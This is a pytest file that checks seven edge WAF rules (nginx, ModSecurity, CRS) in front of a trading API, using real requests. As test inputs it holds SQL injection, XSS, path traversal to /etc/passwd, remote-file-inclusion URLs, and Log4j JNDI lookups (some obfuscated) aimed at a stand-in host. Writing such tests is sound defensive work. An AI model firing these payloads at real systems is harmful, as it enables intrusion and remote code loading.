"""The seven edge rules of deploy/edge/rules.json, each proved with real requests through real
nginx + ModSecurity + CRS in front of ``tradecore serve``. Each test acts from its own
loopback addresses, so the per-IP rate windows of one test never touch another's."""

from __future__ import annotations

import base64
import json
import os
import subprocess
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from edge_harness import (
    ADMIN_IP,
    ALERT_SOURCE_IP,
    BLANKET_LIMIT,
    DENIED_IP,
    LOGIN_LIMIT,
    EdgeStack,
    Reply,
    manifest_rule,
)

PASSED = "-"  # edge_rule of a request no rule decided


def decided_by(edge: EdgeStack, client_ip: str) -> list[str]:
    """The edge_rule of each of ``client_ip``'s requests, oldest first."""
    return [entry["edge_rule"] for entry in edge.decisions(client_ip)]


def assert_refused_by(edge: EdgeStack, reply: Reply, rule_name: str, client_ip: str) -> None:
    rule = manifest_rule(rule_name)
    assert reply.status == rule["status"], reply
    assert reply.headers["Content-Type"] == "application/problem+json"
    assert decided_by(edge, client_ip)[-1] == rule["log_name"]


def test_rule_1_admin_paths_only_from_the_admin_ip_set(edge: EdgeStack) -> None:
    client = "127.0.0.2"
    paths = ["/setup/", "/setup/admin", "/deployment/status", "/deployment", "/%73etup/x"]
    paths += ["//deployment/status", "/health/../setup/x", "/SETUP/x"]
    for path in paths:
        assert_refused_by(edge, edge.request(client, "GET", path), "admin-ip", client)
    # A similar path that is not an admin path is not this rule's.
    edge.request(client, "GET", "/setupx")
    assert decided_by(edge, client)[-1] == PASSED

    # From the admin set the request reaches the API, which also wants an administrator:
    # the demo user signed in from the admin address is not one.
    credentials = {"email": edge.demo["email"], "password": edge.demo["password"]}
    login = edge.post_json(ADMIN_IP, "/auth/login", {**credentials, "turnstile_token": ""})
    assert login.status == 200, login
    cookie = "; ".join(f"{k}={v}" for k, v in login.cookies.items())
    for path in ("/deployment/status", "/setup/status"):
        reply = edge.request(ADMIN_IP, "GET", path, headers={"Cookie": cookie})
        assert reply.status == 403, (path, reply)
        edge.app_saw(ADMIN_IP, "GET", path, 403)
    assert set(decided_by(edge, ADMIN_IP)) == {PASSED}


def test_rule_2_alert_source_webhooks_skip_the_rate_rules(edge: EdgeStack) -> None:
    rule = manifest_rule("alert-source-allow")
    other = "127.0.0.12"
    count = BLANKET_LIMIT + 5
    path = "/webhook/unknown-token/order"
    from_alert_source = [edge.post_json(ALERT_SOURCE_IP, path, {}) for _ in range(count)]
    from_elsewhere = [edge.post_json(other, path, {}) for _ in range(count)]

    # Every one reached the API (which refuses the empty body), none was rate limited.
    assert decided_by(edge, ALERT_SOURCE_IP) == [rule["log_name"]] * count
    assert 429 not in {reply.status for reply in from_alert_source}
    # The same requests from outside the set meet the blanket limit.
    blanket = manifest_rule("blanket-rate-limit")
    assert decided_by(edge, other) == [PASSED] * BLANKET_LIMIT + [blanket["log_name"]] * 5
    assert [r.status for r in from_elsewhere[BLANKET_LIMIT:]] == [blanket["status"]] * 5

    # A real order from the alert source passes, and the API sees the sender's address.
    reply = edge.post_json(ALERT_SOURCE_IP, edge.webhook_path, edge.order_body())
    assert reply.status == 200, reply
    edge.app_saw(ALERT_SOURCE_IP, "POST", "/webhook/", 200)

    # First match decides: the allow also skips rules 5 to 7, as an AWS WAF Allow does.
    edge.post_json(ALERT_SOURCE_IP, path, {"note": "1' OR '1'='1' --"})
    assert decided_by(edge, ALERT_SOURCE_IP)[-1] == rule["log_name"]


@pytest.mark.parametrize("content_type", ["application/json", "text/plain", None])
def test_a_normal_webhook_from_elsewhere_passes_every_rule(
    edge: EdgeStack, content_type: str | None
) -> None:
    """Webhooks from other senders (not the alert-source set) meet rules 3 to 7 and pass."""
    client = "127.0.0.24"
    headers = {} if content_type is None else {"Content-Type": content_type}
    body = json.dumps(edge.order_body()).encode()
    reply = edge.request(client, "POST", edge.webhook_path, body=body, headers=headers)
    assert reply.status == 200, reply
    assert decided_by(edge, client)[-1] == PASSED


def test_rule_3_login_rate_limit_per_ip_across_the_three_paths(edge: EdgeStack) -> None:
    rule = manifest_rule("login-rate-limit")
    client, other = "127.0.0.13", "127.0.0.14"
    paths = rule["paths"]
    # The three paths share one window: LOGIN_LIMIT requests spread over them pass the edge
    # (the API answers them: 400 for the empty body, or its own 429 throttle).
    for i in range(LOGIN_LIMIT):
        edge.post_json(client, paths[i % len(paths)], {})
    assert decided_by(edge, client) == [PASSED] * LOGIN_LIMIT
    for path in paths:
        assert_refused_by(edge, edge.post_json(client, path, {}), "login-rate-limit", client)
    # Another address still signs in; other paths stay open to the limited one.
    password = edge.demo["password"]
    signed_in = edge.post_json(
        other, "/auth/login", {"email": edge.demo["email"], "password": password}
    )
    assert signed_in.status == 200, signed_in
    assert edge.request(client, "GET", "/health").status == 200
    assert decided_by(edge, client)[-1] == PASSED


def test_rate_window_admits_exactly_the_limit_of_a_burst(edge: EdgeStack) -> None:
    """A leaky bucket (nginx limit_req) admits its burst size and then its rate; the edge's
    window admits exactly the limit, however the requests are spread inside the window."""
    client = "127.0.0.15"
    burst = 3 * LOGIN_LIMIT
    with ThreadPoolExecutor(max_workers=12) as pool:
        replies = list(
            pool.map(lambda _: edge.post_json(client, "/auth/forgot-password", {}), range(burst))
        )
    counts = Counter(decided_by(edge, client))
    assert counts == {PASSED: LOGIN_LIMIT, "3-login-rate-limit": burst - LOGIN_LIMIT}
    assert sum(1 for r in replies if r.status == 429) >= burst - LOGIN_LIMIT
    # Requests after the burst stay refused until the window ends.
    assert edge.post_json(client, "/auth/forgot-password", {}).status == 429
    assert decided_by(edge, client)[-1] == "3-login-rate-limit"


def test_rule_4_blanket_rate_limit_per_ip(edge: EdgeStack) -> None:
    client, other = "127.0.0.16", "127.0.0.17"
    statuses = [edge.request(client, "GET", "/health").status for _ in range(BLANKET_LIMIT)]
    assert statuses == [200] * BLANKET_LIMIT
    refused = edge.request(client, "GET", "/health")
    assert_refused_by(edge, refused, "blanket-rate-limit", client)
    assert refused.headers["Retry-After"] == "300"
    assert edge.request(other, "GET", "/health").status == 200


def test_a_body_over_the_edge_cap_is_refused_and_logged(edge: EdgeStack) -> None:
    client = "127.0.0.23"
    body = b"x" * (1024 * 1024 + 1)
    reply = edge.request(client, "POST", "/auth/forgot-password", body=body)
    assert reply.status == 413
    assert decided_by(edge, client) == ["body-size-cap"]


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("GET", "/trading/orders?symbol=1%27%20OR%20%271%27%3D%271", None),
        ("POST", "/auth/token", {"username": "x' UNION SELECT password FROM users--"}),
        ("GET", "/trading/orders?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", None),
        ("GET", "/static/docs/..%252f..%252fetc%252fpasswd", None),
        ("GET", "/trading/orders?file=../../../../etc/passwd", None),
        ("GET", "/trading/orders?page=http://203.0.113.9/shell.txt?", None),
        # A Log4j lookup in a body value is a shell expression to the CRS, which comes first.
        ("POST", "/auth/forgot-password", {"email": "${jndi:rmi://203.0.113.9:1099/x}"}),
        # A body ModSecurity cannot parse is refused: Python's json reads NaN, yajl does not.
        ("POST", "/auth/forgot-password", b'{"email": "x\' OR 1=1--", "n": NaN}'),
        # A webhook body is JSON whatever its Content-Type says, and inspected as JSON.
        ("POST", "/webhook/t/order", b'{"symbol": "1\' UNION SELECT secret FROM users--"}'),
    ],
    ids=[
        "sqli-query",
        "sqli-body",
        "xss-query",
        "traversal-path",
        "traversal-query",
        "rfi",
        "log4j-body",
        "unparsable-body",
        "webhook-text-plain",
    ],
)
def test_rule_5_common_rule_set_blocks(
    edge: EdgeStack, method: str, path: str, body: dict[str, str] | bytes | None
) -> None:
    client = "127.0.0.18"
    if body is None:
        reply = edge.request(client, method, path)
    elif isinstance(body, bytes):
        headers = {"Content-Type": "text/plain" if "webhook" in path else "application/json"}
        reply = edge.request(client, method, path, body=body, headers=headers)
    else:
        reply = edge.post_json(client, path, body)
    assert_refused_by(edge, reply, "common-rule-set", client)


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ({"note": "<script>alert(document.cookie)</script>"}, "CrossSiteScripting_BODY"),
        ({"callback": "http://203.0.113.9/x.php"}, "GenericRFI_BODY"),
        ({"note": "a" * 9000}, "SizeRestrictions_BODY"),
    ],
    ids=["xss-body", "rfi-body", "size-body"],
)
def test_rule_5_overrides_log_and_do_not_block(
    edge: EdgeStack, document: dict[str, str], message: str
) -> None:
    client = "127.0.0.19"
    expected = f"edge rule 5 {message}: count"
    before = edge.audit_messages().count(expected)
    edge.post_json(client, "/auth/forgot-password", document)
    assert decided_by(edge, client)[-1] == PASSED  # the API answered it
    edge.wait_until(
        lambda: edge.audit_messages().count(expected) == before + 1,
        f"one more {expected!r} in the audit log",
    )


@pytest.mark.parametrize(
    ("headers", "document"),
    [
        ({"User-Agent": "${jndi:ldap://203.0.113.9/a}"}, None),
        ({"X-Api-Version": "${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}"}, None),
        ({"Referer": "https://x.test/${jndi:dns://203.0.113.9/a}"}, None),
        ({}, {"blob": base64.b64encode(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap").decode()}),
        ({}, {"name": "java.lang.ProcessBuilder"}),
    ],
    ids=["log4j-header", "log4j-obfuscated", "log4j-referer", "java-serialized", "java-class"],
)
def test_rule_6_known_bad_inputs(
    edge: EdgeStack, headers: dict[str, str], document: dict[str, str] | None
) -> None:
    client = "127.0.0.20"
    if document is None:
        reply = edge.request(client, "GET", "/health", headers=headers)
    else:
        reply = edge.post_json(client, "/auth/forgot-password", document, headers=headers)
    assert_refused_by(edge, reply, "known-bad-inputs", client)


def test_decision_log_counts_by_rule_and_never_holds_the_webhook_token(edge: EdgeStack) -> None:
    client = "127.0.0.21"
    edge.request(client, "GET", "/health")
    edge.request(client, "GET", "/setup/")
    edge.request(client, "GET", "/health?id=1%27%20OR%201=1--")
    edge.post_json(client, edge.webhook_path, {"action": "buy"})
    counts = Counter(decided_by(edge, client))
    assert counts == {PASSED: 2, "1-admin-ip": 1, "5-common-rule-set": 1}
    token = edge.webhook_path.split("/")[2]
    assert token not in (edge.logs / "access.log").read_text()
    assert edge.decisions(client)[-1]["path"] == "/webhook/{token}/order"


def test_request_id_passes_through_and_a_malformed_one_is_replaced(edge: EdgeStack) -> None:
    client = "127.0.0.22"
    reply = edge.request(client, "GET", "/health", headers={"X-Request-ID": "alert-42.a:b"})
    assert reply.headers["X-Request-ID"] == "alert-42.a:b"
    bad = edge.request(client, "GET", "/health", headers={"X-Request-ID": "bad id\\"})
    assert bad.headers["X-Request-ID"] != "bad id\\"
    logged = [entry["request_id"] for entry in edge.decisions(client)]
    assert logged == ["alert-42.a:b", bad.headers["X-Request-ID"]]


def test_rule_7_reputation_deny_list_is_refreshed_by_the_operator_job(
    edge: EdgeStack, tmp_path: Path
) -> None:
    """refresh-ip-reputation.sh replaces the list from a feed and reloads nginx; a feed
    without an address leaves the list as it was."""
    assert_refused_by(edge, edge.request(DENIED_IP, "GET", "/health"), "ip-reputation", DENIED_IP)
    newly_listed = "127.0.0.67"
    assert edge.request(newly_listed, "GET", "/health").status == 200
    deny_list = edge.nginx_conf.parent / "ip-sets" / "reputation-deny.txt"
    script = edge.nginx_conf.parent / "refresh-ip-reputation.sh"
    feed = tmp_path / "drop.txt"
    feed.write_text(f"; Spamhaus-style feed\n{newly_listed}/32 ; SBL0001\n127.0.0.68\n")

    result = edge.reload([str(script), feed.as_uri()])

    assert "2 entries loaded" in result.stdout
    reply = edge.request(newly_listed, "GET", "/health")
    assert_refused_by(edge, reply, "ip-reputation", newly_listed)
    assert json.loads(reply.body)["status"] == 403
    assert edge.request(DENIED_IP, "GET", "/health").status == 200
    kept = deny_list.read_text()
    feed.write_text("<html>not a list</html>\n")
    refused = subprocess.run(
        [str(script), feed.as_uri()],
        capture_output=True,
        text=True,
        timeout=30,
        env={**os.environ, "EDGE_CONF_DIR": str(deny_list.parents[1])},
    )
    assert refused.returncode == 1
    assert "gave no address" in refused.stderr
    assert deny_list.read_text() == kept
